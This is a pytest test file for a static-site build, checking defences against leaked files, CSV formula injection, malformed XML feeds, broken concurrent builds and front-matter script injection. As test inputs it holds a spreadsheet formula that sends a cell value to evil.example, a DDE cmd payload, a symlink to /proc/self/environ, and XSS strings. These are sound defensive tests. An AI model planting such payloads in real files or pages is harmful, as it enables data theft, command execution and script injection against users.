"""What the build writes cannot be turned against its readers or its deploy: no file from outside
the repository is published, CSV cells do not run as formulas, feeds stay well-formed XML,
concurrent or interrupted builds never leave a broken site, the preview forgets deleted records
and the data date comes from the data (issue 10, findings 1, 2, 5, 11, 12, 13)."""

from __future__ import annotations

import csv
import io
import json
import os
import signal
import subprocess
import sys
import threading
import time
import xml.etree.ElementTree as ET
from dataclasses import replace
from datetime import datetime
from pathlib import Path

import pytest

from showcase.dataset import load_dataset
from showcase.graph import build_graph
from showcase.opendata import open_data_files
from showcase.search import BUNDLE, index_site
from showcase.structured import atom_feed
from sitekit import BASE, MKDOCS_ENV, ROOT, RUNTIME, base_data, copy_project, write_data
from test_serve import _get, _serving, _wait_for

DATA_DAY = "2021-03-04"  # the last commit that touches data/
DOCS_DAY = "2023-07-08"  # a later commit that touches docs/ only
SITE_URL = "https://example.org/showcase/"
BUILD_TIMEOUT = 120  # a build of the real data takes about 3 s; a build past this has hung


def _epoch(day: str) -> int:
    return int(datetime.fromisoformat(day + "T12:00:00+00:00").timestamp())


def _git(root: Path, *args: str, day: str | None = None) -> None:
    env = {**os.environ}
    if day:
        env["GIT_AUTHOR_DATE"] = env["GIT_COMMITTER_DATE"] = f"{day}T12:00:00+00:00"
    command = ["git", "-c", "user.name=t", "-c", "user.email=t@t", *args]
    if args[0] == "commit" and day:
        command += ["--date", f"{day}T12:00:00+00:00"]
    subprocess.run(command, cwd=root, env=env, check=True, capture_output=True)


def _build_command(root: Path) -> list[str]:
    # No -d: the site folder is mkdocs.yml's default, site/ beside it, as `make build` builds it.
    # A relative -f, as `make build-editorial` and `make serve` give it (run in `root`).
    return [sys.executable, "-m", RUNTIME, "build", "--strict", "-f", "mkdocs.yml"]


def _build_env() -> dict:
    # As the Makefile sets it: the last commit of any path (here the docs-only one).
    return {**os.environ, **MKDOCS_ENV, "SOURCE_DATE_EPOCH": str(_epoch(DOCS_DAY)),
            "SHOWCASE_SITE_URL": SITE_URL}


def _start_build(root: Path) -> subprocess.Popen:
    return subprocess.Popen(_build_command(root), cwd=root, env=_build_env(), stdout=subprocess.PIPE,
                            stderr=subprocess.STDOUT, text=True)


def _run_build(root: Path) -> subprocess.CompletedProcess:
    return subprocess.run(_build_command(root), cwd=root, env=_build_env(), capture_output=True, text=True,
                          timeout=BUILD_TIMEOUT)


@pytest.fixture(scope="module")
def checkout(tmp_path_factory) -> Path:
    """A git checkout of the project with the real data (data committed on DATA_DAY, a docs-only
    commit on DOCS_DAY), built once into its default site/ folder."""
    root = copy_project(tmp_path_factory.mktemp("checkout"), ROOT / "data")
    _git(root, "init", "-q")
    _git(root, "add", "-A")
    _git(root, "commit", "-q", "-m", "data", day=DATA_DAY)
    about = root / "docs" / "about.md"
    about.write_text(about.read_text(encoding="utf-8") + "\n补充说明。\n", encoding="utf-8")
    _git(root, "commit", "-q", "-am", "docs only", day=DOCS_DAY)
    result = _run_build(root)
    assert result.returncode == 0, result.stdout + result.stderr
    return root


def _listing(site: Path) -> dict[str, int]:
    return {p.relative_to(site).as_posix(): p.stat().st_size for p in sorted(site.rglob("*")) if p.is_file()}


def _assert_complete_search(site: Path) -> None:
    """Every file pagefind-entry.json names is there, with the index and fragment folders."""
    entry = json.loads((site / "pagefind" / "pagefind-entry.json").read_text(encoding="utf-8"))
    for language, about in entry["languages"].items():
        assert (site / "pagefind" / f"pagefind.{about['hash']}.pf_meta").is_file(), language
    for folder in ("index", "fragment"):
        assert any((site / "pagefind" / folder).iterdir()), f"pagefind/{folder} is empty"


# -- finding 1: symlinks and special files in docs/ and overrides/ -------------------------------

def test_finding_1_the_build_refuses_symlinks_and_special_files_under_docs_and_overrides(tmp_path):
    root = copy_project(tmp_path / "project", BASE)
    (root / "secret.txt").write_text("TOKEN-0123456789\n", encoding="utf-8")  # stands for .git/config
    os.symlink("/proc/self/environ", root / "docs" / "env.txt")
    os.symlink("../secret.txt", root / "docs" / "x")
    os.symlink("../secret.txt", root / "overrides" / "leak.txt")
    os.mkfifo(root / "docs" / "pipe.txt")
    result = subprocess.run(_build_command(root) + ["-d", str(root / "site")], cwd=root, capture_output=True,
                            text=True, env={**os.environ, **MKDOCS_ENV}, timeout=BUILD_TIMEOUT)
    output = result.stdout + result.stderr
    assert result.returncode != 0, "the build published symlinked files"
    for line in ("docs/env.txt：是符号链接", "docs/x：是符号链接", "overrides/leak.txt：是符号链接",
                 "docs/pipe.txt：不是普通文件"):
        assert line in output, output
    assert "Traceback" not in output and "TOKEN-0123456789" not in output
    assert not (root / "site" / "env.txt").exists() and not (root / "site" / "leak.txt").exists()


# -- finding 2: CSV formula injection -------------------------------------------------------------

FORMULAS = {
    "name": '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
    "full_name": "+cmd|' /C calc'!A0",
    "summary": "@SUM(1)",
}


def _hostile_graph(units_update: dict, activity_title: str | None = None, role: str | None = None):
    """The base data with values put in after validation (`model_copy` does not validate), so the
    writers are tested whatever the data rules let through."""
    import tempfile

    dataset, report = load_dataset(str(write_data(Path(tempfile.mkdtemp()) / "data", *base_data())))
    assert not report, report.format()
    units = list(dataset.units.units)
    units[0] = units[0].model_copy(update=units_update)
    people = list(dataset.units.people)
    people[0] = people[0].model_copy(update={"name": units_update.get("name", people[0].name)})
    units[1] = units[1].model_copy(update={"name": "-1+1", "summary": "\t制表符开头",
                                           "full_name": "\r回车开头"})
    activities = list(dataset.activities.activities)
    activity = activities[0]
    action = activity.actions[0]
    if role is not None:
        participant = action.participants[0].model_copy(update={"role": role})
        action = action.model_copy(update={"participants": [participant, *action.participants[1:]]})
    update = {"actions": [action, *activity.actions[1:]]}
    if activity_title is not None:
        update |= {"title": activity_title, "summary": activity_title, "section": activity_title}
    activities[0] = activity.model_copy(update=update)
    dataset = replace(dataset, units=dataset.units.model_copy(update={"units": units, "people": people}),
                      activities=dataset.activities.model_copy(update={"activities": activities}))
    return dataset, build_graph(dataset)


def _rows(text: str) -> list[dict]:
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text[1:], newline="")))


def test_finding_2_csv_cells_that_a_spreadsheet_would_run_get_a_leading_quote():
    dataset, graph = _hostile_graph(FORMULAS, role="=2+5")
    files = open_data_files(dataset, graph)
    units = _rows(files["data/units.csv"])
    assert units[0]["名称"] == "'" + FORMULAS["name"]
    assert units[0]["全称"] == "'" + FORMULAS["full_name"]
    assert units[0]["简介"] == "'" + FORMULAS["summary"]
    assert (units[1]["名称"], units[1]["简介"], units[1]["全称"]) == ("'-1+1", "'\t制表符开头", "'\r回车开头")
    assert all(row["人物数"].isdigit() and row["荣誉数"].isdigit() for row in units)  # numbers stay numbers
    participations = _rows(files["data/participations.csv"])
    assert participations[0]["角色"] == "'=2+5" and participations[0]["时间"].isdigit()
    honours = _rows(files["data/honours.csv"])
    assert honours[0]["获得者"] == "'" + FORMULAS["name"]
    assert _rows(files["data/people.csv"])[0]["姓名或名称"] == "'" + FORMULAS["name"]
    every_cell = [cell for name in ("units", "people", "honours", "participations")
                  for row in _rows(files[f"data/{name}.csv"]) for cell in row.values()]
    assert not [cell for cell in every_cell if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    # JSON keeps the exact value.
    unit = json.loads(files["data/units.json"])["units"][0]
    assert (unit["name"], unit["full_name"], unit["summary"]) == tuple(FORMULAS.values())
    action = json.loads(files["data/activities.json"])["activities"][0]["actions"][0]
    assert action["participants"][0]["role"] == "=2+5"


# -- finding 5: well-formed XML ---------------------------------------------------------------------

def test_finding_5_the_atom_feed_is_well_formed_whatever_the_titles_and_site_url(checkout):
    title = "活动\ufffe标题\uffff<b>&amp;\"'</b>\ud800"
    _, graph = _hostile_graph({"name": "甲<>&\"'"}, activity_title=title)
    site_url = 'https://example.org/a"b/?x=1&y=<2>'
    feed = atom_feed(graph, site_url, "站点\ufffe\"名\"")
    root = ET.fromstring(feed.encode("utf-8"))  # raises ParseError when ill-formed
    atom = "{http://www.w3.org/2005/Atom}"
    assert root.find(f"{atom}link[@rel='self']").get("href") == 'https://example.org/a"b/?x=1&y=<2>/feed.xml'
    entry = root.find(f"{atom}entry")
    assert entry.find(f"{atom}title").text == "活动\ufffd标题\ufffd<b>&amp;\"'</b>\ufffd"
    assert entry.find(f"{atom}category").get("term") == "活动\ufffd标题\ufffd<b>&amp;\"'</b>\ufffd"
    assert entry.find(f"{atom}link").get("href").startswith('https://example.org/a"b/')
    # The built site's XML files parse too.
    site = checkout / "site"
    for name in ("feed.xml", "sitemap.xml"):
        parsed = ET.parse(site / name).getroot()
        assert len(parsed) > 1, name


# -- finding 11: concurrent and interrupted builds ------------------------------------------------

@pytest.mark.slow
def test_finding_11_an_interrupted_build_leaves_the_previous_site_untouched(checkout):
    site = checkout / "site"
    before = _listing(site)
    process = _start_build(checkout)
    deadline = time.monotonic() + BUILD_TIMEOUT
    # Kill it mid-way: once it has written anything (into site/ or its own folder beside it).
    while process.poll() is None and time.monotonic() < deadline:
        private = [p for p in checkout.glob(".site-build-*") if any(p.iterdir())]
        if private or _listing(site) != before:
            break
        time.sleep(0.02)
    process.send_signal(signal.SIGKILL)
    process.communicate(timeout=30)
    assert process.returncode == -signal.SIGKILL, "the build ended before it could be interrupted"
    assert _listing(site) == before
    _assert_complete_search(site)


# A stand-in for Pagefind that writes its entry file, works a while, then writes the file the
# entry names: a run whose output folder another run deletes meanwhile fails, as Pagefind does.
SLOW_INDEXER = ("import os, sys, time; out, tag = sys.argv[1], sys.argv[2]; os.makedirs(out, exist_ok=True);"
                "open(os.path.join(out, 'pagefind-entry.json'), 'w').write(tag); time.sleep(1.0);"
                "open(os.path.join(out, 'meta-' + tag), 'w').write(tag)")


def test_finding_11_two_indexers_at_once_do_not_share_a_staging_folder(tmp_path):
    site = tmp_path / "site"
    (site / "index.html").parent.mkdir(parents=True)
    (site / "index.html").write_text("<html></html>", encoding="utf-8")
    failures: list[Exception] = []

    def index(tag: str) -> None:
        try:
            index_site(str(site), command=lambda _, out: [sys.executable, "-c", SLOW_INDEXER, out, tag])
        except Exception as error:  # noqa: BLE001 - reported by the assertion below
            failures.append(error)

    runs = [threading.Thread(target=index, args=(tag,)) for tag in ("first", "second")]
    runs[0].start()
    time.sleep(0.4)  # the second starts while the first is still writing
    runs[1].start()
    for run in runs:
        run.join(timeout=30)
    assert failures == []
    bundle = site / BUNDLE
    tag = (bundle / "pagefind-entry.json").read_text(encoding="utf-8")
    assert (bundle / f"meta-{tag}").is_file()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["site"]  # no staging folder left behind


@pytest.mark.slow
def test_finding_11_two_builds_at_once_in_one_checkout_both_leave_complete_search(checkout):
    first = _start_build(checkout)
    time.sleep(1.5)
    second = _start_build(checkout)
    outputs = [process.communicate(timeout=BUILD_TIMEOUT)[0] for process in (first, second)]
    assert [first.returncode, second.returncode] == [0, 0], outputs
    site = checkout / "site"
    assert (site / "index.html").is_file() and (site / "units" / "pku" / "index.html").is_file()
    _assert_complete_search(site)
    # Nothing is left beside the site: neither the runs' own folders nor the one killed above.
    left = [p.name for p in checkout.iterdir() if p.name.startswith((".site-build-", ".pagefind-staging-"))]
    assert left == []


# -- finding 12: the preview forgets deleted records ----------------------------------------------

ADDED_UNIT = """
  - id: added-for-test
    name: 新增测试单位
    category: other
    membership: unknown
    basis: stated
    source:
      doc: report-2020
      loc: L21 二（三）一是
      quote: 北京市植物园、香山公园等创建为首都文明单位
"""


@pytest.mark.serve
def test_finding_12_the_preview_removes_the_page_of_a_deleted_unit(tmp_path):
    with _serving(tmp_path) as (project, base, _process, log):
        units = project / "data" / "units.yaml"
        original = units.read_text(encoding="utf-8")
        # into the list of units, which the list of people follows
        units.write_text(original.replace("\npeople:", ADDED_UNIT + "people:", 1), encoding="utf-8")
        page = base + "units/added-for-test/"
        assert "新增测试单位" in _wait_for(lambda: _get(page), "the added unit's page")
        units.write_text(original, encoding="utf-8")
        _wait_for(lambda: _get(page) is None, "the deleted unit's page to answer 404", timeout=30)
        assert "中国农业大学" in _get(base + "units/cau/")  # the rest is still served


# -- finding 13: the data date ------------------------------------------------------------------------

def test_finding_13_the_data_date_is_the_last_data_commit_not_source_date_epoch(checkout):
    html = (checkout / "site" / "data" / "index.html").read_text(encoding="utf-8")
    assert f"数据更新日期：{DATA_DAY}。" in html
    assert DOCS_DAY not in html


def test_front_matter_cannot_set_the_hooks_own_page_values(tmp_path):
    """main.html prints `showcase_jsonld` inside <script> as it is (the hooks make it safe): a
    hand-written page's front matter setting it, or the share image, is ignored."""
    project = copy_project(tmp_path / "project", BASE)
    (project / "docs" / "evil.md").write_text(
        "---\nshowcase_jsonld: '</script><script>alert(1)</script>'\n"
        "showcase_image: {url: 'javascript:alert(2)', width: 1, height: 1, alt: x}\n---\n# 页面\n",
        encoding="utf-8")
    result = subprocess.run([sys.executable, "-m", RUNTIME, "build", "-q", "-f", "mkdocs.yml", "-d", str(project / "site")],
                            cwd=project, env={**os.environ, **MKDOCS_ENV}, capture_output=True, text=True)
    assert result.returncode == 0, result.stderr
    html = (project / "site" / "evil" / "index.html").read_text(encoding="utf-8")
    assert "alert(1)" not in html and "alert(2)" not in html
    assert 'property="og:image" content="../assets/share.png"' in html
